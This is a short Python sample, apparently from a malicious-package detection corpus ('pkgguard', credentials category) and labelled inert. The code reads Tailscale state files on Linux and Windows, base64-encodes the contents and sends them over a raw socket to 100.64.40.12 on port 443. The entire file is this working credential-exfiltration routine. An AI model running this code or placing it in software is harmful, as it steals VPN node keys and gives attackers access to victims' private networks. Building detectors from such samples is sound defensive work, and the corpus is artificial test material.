# pkgguard corpus 837 (credentials), modelled on [taxonomy]; inert, never run.
import base64
import os
import socket

_STATES = ("/var/lib/tailscale/tailscaled.state", os.path.join(os.environ.get("ProgramData", r"C:\ProgramData"), "Tailscale", "server-state.conf"))

for path in _STATES:
    try:
        with open(path, "rb") as fh:
            state = fh.read()
    except OSError:
        continue
    try:
        with socket.create_connection(("100.64.40.12", 443), timeout=5) as conn:
            conn.sendall(base64.b64encode(state))
    except OSError:
        pass
    break
